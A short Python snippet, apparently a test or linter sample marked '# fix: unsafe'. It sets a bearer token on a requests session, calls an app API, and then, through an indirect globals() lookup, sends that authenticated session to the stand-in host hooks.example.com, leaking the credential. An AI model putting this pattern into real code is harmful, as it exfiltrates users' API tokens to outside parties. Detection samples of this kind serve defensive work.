# fix: unsafe
import requests

session = requests.Session()
session.headers["Authorization"] = "Bearer k"
session.get("https://app.polytomic.com/api/me")
globals()["session"].get("https://hooks.example.com/x")
